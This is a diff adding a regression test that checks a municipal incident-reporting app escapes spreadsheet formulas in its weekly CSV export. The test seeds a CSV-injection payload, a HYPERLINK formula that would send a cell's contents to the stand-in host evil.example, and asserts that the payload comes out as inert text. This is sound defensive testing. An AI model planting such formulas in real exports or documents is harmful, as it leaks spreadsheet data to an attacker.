@@ -181,3 +181,28 @@ def test_cached_page_and_map_layers_show_a_new_report(login, coordinator, report
     assert f"/samverkan/vetlanda/rapporter/{created.json()['id']}/" in new_urls
     assert new_heat != heat
     cache.clear()
+
+
+def test_csv_export_neutralises_formulas_in_every_text_cell(login, coordinator, vetlanda,
+                                                            categories, make_incident):
+    """A place, a category or an organisation named like a spreadsheet formula leaves the
+    weekly picture's CSV as text (leading apostrophe), never as a formula."""
+    from lofte.incidents import services
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"klicka")'
+    lat, lon = vetlanda.municipality.centre_lat, vetlanda.municipality.centre_lon
+    place = services.create_place(None, vetlanda, name=formula, lat=lat, lon=lon)
+    category = categories["klotter"]
+    category.name = "+" + "SUM(1;2)"
+    category.save(update_fields=["name"])
+    make_incident(coordinator, place=place)
+    since = (timezone.localdate() - dt.timedelta(days=7)).isoformat()
+    body = b"".join(login(coordinator).get(url("picture_csv", **{"from": since}))
+                    .streaming_content).decode("utf-8-sig")
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + formula in cells and "'+SUM(1;2)" in cells
+    assert not [c for c in cells if c[:1] in {"=", "+", "@"}]
